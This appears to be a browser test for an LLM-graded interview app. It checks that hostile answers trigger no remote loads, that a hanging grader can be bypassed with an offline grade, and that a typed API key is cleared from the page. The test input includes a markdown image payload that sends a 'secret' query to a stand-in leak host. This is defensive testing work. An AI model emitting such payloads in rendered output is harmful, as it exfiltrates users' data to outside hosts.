"""The page loads nothing from other hosts, whatever the answer holds; a slow LLM grader
can be cut short with the offline grade; a typed API key does not stay in the page."""

from __future__ import annotations

import time
from urllib.parse import urlparse

import pytest

from ..bad_inputs import BAD_ANSWERS, LEAK_HOST
from ..http.fake_llm import FakeLLM
from .test_browser import answer, launch, start_app

pytestmark = pytest.mark.browser

KEY = "sk-typed-in-the-sidebar-SECRET-42"
ANSWER = BAD_ANSWERS["image"] + " " + BAD_ANSWERS["link"]


@pytest.fixture()
def slow_llm():
    fake = FakeLLM().start()
    # The first grade hangs: long enough to need the button, short enough to end the test.
    fake.add(kind="sleep", seconds=25, then={"kind": "status", "code": 500})
    yield fake
    fake.stop()


@pytest.fixture()
def app(repo, fresh_data_dir, tmp_path, slow_llm):
    env = {"INTERVIEWER_PROVIDER": "openai-compatible", "INTERVIEWER_MODEL": "tiny",
           "INTERVIEWER_BASE_URL": slow_llm.url + "/v1", "INTERVIEWER_TURN_BUDGET_S": "90"}
    proc, url = start_app(repo, fresh_data_dir, tmp_path / "streamlit.log", env)
    yield url
    proc.terminate()
    proc.wait(timeout=20)


def test_no_remote_loads_offline_grade_now_and_no_key_in_the_page(app, slow_llm):
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as pw:
        browser, page = launch(pw)
        requested: list[str] = []
        page.on("request", lambda r: requested.append(r.url))
        page.goto(app)
        page.get_by_role("button", name="Start new interview").click(timeout=60_000)
        expect(page.get_by_text("Question 1 of 3")).to_be_visible(timeout=60_000)
        answer(page, ANSWER)

        # The LLM hangs: the user takes the offline grade instead of waiting it out.
        button = page.get_by_role("button", name="Use the offline grade now")
        expect(button).to_be_visible(timeout=180_000)
        expect(page.get_by_text("Waiting for the grader")).to_be_visible(timeout=30_000)
        clicked = time.monotonic()
        button.click()
        expect(page.get_by_text("you chose the offline grade").first).to_be_visible(
            timeout=60_000)
        waited = time.monotonic() - clicked
        # The answer is shown as typed: the image is text, not a picture.
        expect(page.get_by_text(f"![x](http://{LEAK_HOST}/leak?q=secret)", exact=False)
               ).to_be_visible()
        expect(page.get_by_text("[my notes](", exact=False)).to_be_visible()

        # A key typed in the sidebar is taken by the grader, then the field is emptied.
        page.get_by_role("textbox", name="API key").fill(KEY)
        page.get_by_role("button", name="Use this grader").click()
        expect(page.get_by_text("Active: LLM grader (openai-compatible · tiny)")
               ).to_be_visible(timeout=30_000)
        expect(page.get_by_role("textbox", name="API key")).to_have_value("", timeout=10_000)
        assert KEY not in page.content()

        # History shows the same transcript, as safely.
        page.get_by_text("History", exact=True).click()
        expect(page.get_by_text("Transcript")).to_be_visible(timeout=60_000)
        expect(page.get_by_text(f"![x](http://{LEAK_HOST}/leak?q=secret)", exact=False)
               .first).to_be_visible()
        page.wait_for_timeout(1000)
        browser.close()

    remote = sorted({u for u in requested
                     if urlparse(u).scheme in ("http", "https", "ws", "wss")
                     and urlparse(u).hostname != "127.0.0.1"})
    assert remote == [], remote
    assert not any(LEAK_HOST in u for u in requested)
    assert waited < 45, f"the offline grade took {waited:.0f} s after the click"
